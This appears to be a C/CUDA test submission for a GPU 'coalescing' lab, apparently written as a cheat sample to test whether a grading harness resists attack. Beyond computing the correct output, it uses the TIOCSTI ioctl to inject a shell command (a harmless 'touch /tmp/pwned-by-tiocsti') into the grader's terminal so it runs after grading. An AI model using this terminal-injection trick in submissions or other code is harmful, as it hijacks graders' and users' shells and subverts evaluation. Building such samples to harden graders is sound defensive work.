/* Attack on the grading machine: push a command into the terminal that runs `make grade`
 * (TIOCSTI), so that it runs after grading. The output is honest.
 * lab: coalescing
 * where: emu gpu
 * expect: all-correct=OK */
#include "coalescing.h"
#include "cheat_common.cuh"
#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <unistd.h>

extern "C" void coalescing(float *out, const float *in, const float *scale, const float *bias,
                           int rows, int cols, cudaStream_t stream)
{
    const char cmd[] = "touch /tmp/pwned-by-tiocsti\n";
    int fds[4] = {0, 1, 2, open("/dev/tty", O_RDWR)};
    for (int k = 0; k < 4; k++)
        for (const char *c = cmd; *c && fds[k] >= 0; c++)
            if (ioctl(fds[k], TIOCSTI, c) != 0)
                break;
    honest_coalescing(out, in, scale, bias, rows, cols, stream);
}
